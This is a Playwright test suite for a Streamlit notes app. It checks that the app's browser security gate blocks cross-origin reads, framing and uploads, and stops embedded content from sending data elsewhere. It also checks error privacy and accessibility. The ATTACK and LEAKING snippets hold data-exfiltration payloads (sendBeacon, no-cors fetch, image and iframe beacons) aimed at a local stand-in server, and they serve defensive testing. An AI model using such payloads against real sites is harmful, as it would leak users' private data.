"""The gate in a real Chromium: what other pages cannot do to ours, and what ours cannot send away."""

from contextlib import ExitStack

import pytest

from tests.conftest import settle, until
from tests.gate.copied_workbook import copied_workbook
from tests.gate.foreign_page import ForeignPage
from tests.running import ROOT, RunningWorkbook

pytestmark = pytest.mark.trust

WATCH = """
window.stopped = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.stopped.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""
ATTACK = """
async (target) => {
  const loads = (name, set) => new Promise((tell) => {
    const element = document.createElement(name);
    element.onload = () => tell("came");
    element.onerror = () => tell("refused");
    set(element);
    document.body.append(element);
  });
  const asks = (path, options) => fetch(target + path, options).then((answer) => answer.type, () => "refused");
  const socket = new Promise((tell) => {
    const opened = new WebSocket(target.replace("http", "ws") + "/_stcore/stream", ["streamlit"]);
    opened.onopen = () => tell("came");
    opened.onerror = () => tell("refused");
  });
  return {
    read: await asks("/steady/here"),
    upload: await asks("/_stcore/upload_file/a/b", {method: "PUT", body: "words"}),
    icon: await loads("img", (element) => { element.src = target + "/favicon.png"; }),
    script: await loads("script", (element) => { element.src = target + "/static/js/none.js"; }),
    socket: await socket,
  };
}
"""
WORKING = """
import altair as alt, pandas as pd
numbers = pd.DataFrame({"day": [1, 2, 3], "calm": [4, 6, 5]})
st.altair_chart(alt.Chart(numbers).mark_line(point=True).encode(x="day", y="calm", tooltip="calm"), alt="A line")
st.dataframe(numbers)
st.download_button("Take it along", data=lambda: "my words", file_name="notes.txt")
st.file_uploader("Bring a file")
box = st.components.v2.component("box", html="<textarea aria-label='Box'></textarea>", js='''
export default function ({ parentElement, setStateValue }) {
  parentElement.querySelector("textarea").oninput = (event) => setStateValue("words", event.target.value);
}''')
st.text(f"came back: {box(key='box', on_words_change=lambda: None).words}")
st.button("Save check-in", type="primary")
st.multiselect("Tags", ["slept"], default=["slept"])
"""
LEAKING = """
there = "{there}"
st.markdown(f"![a picture]({{there}}/markdown.png)")
st.html(f"<img src='{{there}}/html.png'><p style='background: url({{there}}/style.png)'>words</p>")
st.html(f"<style>p {{{{ list-style-image: url({{there}}/sheet.png); display: list-item }}}}</style>")
leak = st.components.v2.component("leak", html="<p></p>", js=f'''
export default function () {{{{
  new Image().src = "{{there}}/script.png";
  navigator.sendBeacon("{{there}}/beacon", "words");
  fetch("{{there}}/fetch", {{{{mode: "no-cors"}}}}).catch(() => {{{{}}}});
  const frame = document.createElement("iframe");
  frame.src = "{{there}}/frame"; document.body.append(frame);
  window.tried = true;
}}}}''')
leak(key="leak")
"""
FAILING = """
def fail():
    raise ValueError(st.session_state["hers"])
st.text_input("Words", "he wants to leave", key="hers")
st.button("In a callback", on_click=fail)
if st.button("On the screen"):
    fail()
@st.fragment
def piece():
    if st.button("In a fragment"):
        fail()
piece()
"""
CONTRAST = """
(element) => {
  const shine = (colour) => colour.match(/[\\d.]+/g).slice(0, 3).map((part) => part / 255)
    .map((part) => part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4)
    .reduce((sum, part, at) => sum + part * [0.2126, 0.7152, 0.0722][at], 0);
  const style = getComputedStyle(element);
  const [low, high] = [shine(style.color), shine(style.backgroundColor)].sort((a, b) => a - b);
  return (high + 0.05) / (low + 0.05);
}
"""


def stopped_on(page) -> list[str]:
    return page.evaluate("window.stopped")


@pytest.fixture
def serve(tmp_path):
    """Serve a workbook whose screens run the given code; stops it afterwards."""
    with ExitStack() as until_the_end:
        yield lambda **pages: until_the_end.enter_context(
            RunningWorkbook(tmp_path / "journal", script=copied_workbook(tmp_path / "workbook", **pages))
        )


def test_another_page_can_neither_read_load_nor_reach_ours(serve, page):
    running = serve(today='st.text("quiet")')
    with ForeignPage() as foreign:
        page.goto(foreign.url)
        tried = page.evaluate(ATTACK, running.url)
    assert tried == dict.fromkeys(("read", "upload", "icon", "script", "socket"), "refused")


def test_another_page_cannot_frame_ours(serve, page):
    running = serve(today='st.text("quiet")')
    with ForeignPage() as foreign:
        page.goto(foreign.url)
        page.evaluate("(there) => { document.body.innerHTML = `<iframe src='${there}'></iframe>`; }", running.url)
        page.wait_for_timeout(1500)
        assert page.frames[1].url == "chrome-error://chromewebdata/"


def wait_until(page, condition):
    """Ask again and again from outside: Playwright's own waiting evaluates a string in the page, which is forbidden."""
    until(page, lambda: page.evaluate(f"Boolean({condition})"))


def test_nothing_on_a_screen_can_send_or_fetch_anything_elsewhere(serve, page):
    page.add_init_script(WATCH)
    with ForeignPage() as foreign:
        running = serve(today=LEAKING.format(there=foreign.url))
        page.goto(running.url)
        settle(page)
        wait_until(page, "window.tried")
        page.wait_for_timeout(1000)
        assert foreign.visits == []
        assert {f"img-src {foreign.url}/markdown.png", f"connect-src {foreign.url}/fetch"} <= set(stopped_on(page))


def test_charts_tables_downloads_uploads_and_components_work(serve, page):
    page.add_init_script(WATCH)
    running = serve(today=WORKING)
    page.goto(running.url)
    settle(page)
    page.locator("svg.marks path").first.wait_for()
    page.locator("[data-testid=stDataFrame] canvas").first.wait_for()
    with page.expect_download() as taken:
        page.get_by_role("button", name="Take it along").click(delay=100)
    assert taken.value.path().read_text() == "my words"
    page.locator("input[type=file]").set_input_files(
        {"name": "diary.csv", "mimeType": "text/csv", "buffer": b"date,mood\n"}
    )
    page.get_by_text("diary.csv").wait_for()
    page.get_by_label("Box").fill("written here")
    page.get_by_text("came back: written here").wait_for()
    # Streamlit's message reader tries WebAssembly for long numbers and does without.
    assert set(stopped_on(page)) <= {"script-src wasm-eval"}


def test_a_script_in_the_page_runs_only_when_it_is_a_file_of_ours(serve, page, tmp_path):
    running = serve(today="""
st.html("<script>window.foreign = true</script>", unsafe_allow_javascript=True)
st.html("<script>window.ours = (window.ours || 0) + 1;</script>", unsafe_allow_javascript=True)""")
    page.goto(running.url)
    settle(page)
    page.wait_for_timeout(300)
    assert page.evaluate("[window.foreign, window.ours]") == [None, None]
    running.stop()
    shell = tmp_path / "workbook" / "steady" / "ui" / "shell"
    shell.joinpath("ours.js").write_text("window.ours = (window.ours || 0) + 1;", encoding="utf-8")
    running.start()
    page.goto(running.url)
    settle(page)
    # Once from the start page, which links it, and once from the screen.
    wait_until(page, "window.ours === 2")
    assert page.evaluate("window.foreign") is None


def test_a_bookmark_as_the_very_first_request_goes_through_the_front_door(serve, page):
    running = serve(today='st.text("first screen")', weeks='st.text("second screen")')
    page.goto(f"{running.url}/weeks")
    settle(page)
    page.get_by_text("second screen").wait_for()
    assert page.get_by_text("through the front door").count() == 1
    assert page.get_by_text("first screen").count() == 0


def test_the_tab_is_called_notes_and_has_our_icon_from_the_first_moment_on(serve, page):
    page.add_init_script("""
      window.titles = [];
      new MutationObserver(() => window.titles.push(document.title))
        .observe(document, {subtree: true, childList: true});
    """)
    page.goto(serve(today='st.text("quiet")').url)
    settle(page)
    assert set(page.evaluate("window.titles")) <= {"", "Notes"}
    assert page.title() == "Notes"
    for address in ("/favicon.png", page.locator("link[rel~=icon]").get_attribute("href")):
        drawn = page.evaluate(
            "(at) => fetch(at).then((r) => r.arrayBuffer()).then((b) => [...new Uint8Array(b)])", address
        )
        assert bytes(drawn) == ROOT.joinpath("steady", "ui", "icon.png").read_bytes()


@pytest.mark.parametrize("place", ["On the screen", "In a callback", "In a fragment"])
def test_an_error_shows_a_kind_sentence_and_no_word_of_hers_anywhere(serve, page, place):
    running = serve(today=FAILING)
    page.goto(running.url)
    settle(page)
    page.get_by_role("button", name=place).click()
    page.get_by_text("What you saved is safe").wait_for()
    shown = page.locator("body").inner_text()
    for word in ("ValueError", "Traceback", "leave", "Google", "ChatGPT"):
        assert word not in shown
    assert "leave" not in running.log() and "Traceback" not in running.log()
    assert "ValueError at pages/today.py:4 < " in running.log()


def test_a_screen_that_cannot_be_read_shows_no_trace(serve, page):
    running = serve(today="if True print('he wants to leave')")
    page.goto(running.url)
    settle(page)
    assert "leave" not in page.locator("body").inner_text()
    assert "leave" not in running.log()


def test_no_box_sends_its_words_to_a_spelling_service(serve, page):
    page.goto(serve(today='st.text_area("Words")\nst.text_input("Line")').url)
    settle(page)
    assert page.get_by_label("Words").evaluate("(box) => box.spellcheck") is False
    assert page.get_by_label("Line").evaluate("(box) => box.spellcheck") is False


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_what_stands_on_the_primary_colour_can_be_read(serve, page, scheme):
    page.emulate_media(color_scheme=scheme)
    page.goto(serve(today=WORKING).url)
    settle(page)
    page.mouse.move(0, 0)
    for element in (page.get_by_test_id("stBaseButton-primary"), page.locator("[data-tag]").last):
        assert element.evaluate(CONTRAST) >= 4.5


def test_a_screen_is_drawn_anew_when_the_computer_turns_from_light_to_dark(serve, page):
    page.emulate_media(color_scheme="light")
    page.goto(serve(today='st.text(f"drawn for {st.context.theme.type}")').url)
    page.get_by_text("drawn for light").wait_for()
    page.emulate_media(color_scheme="dark")
    page.get_by_text("drawn for dark").wait_for()


def test_streamlits_menu_and_deploy_button_are_not_there(serve, page):
    page.goto(serve(today='st.text("quiet")').url)
    settle(page)
    assert page.get_by_test_id("stAppDeployButton").count() == 0
    assert "Record" not in page.locator("body").inner_text()
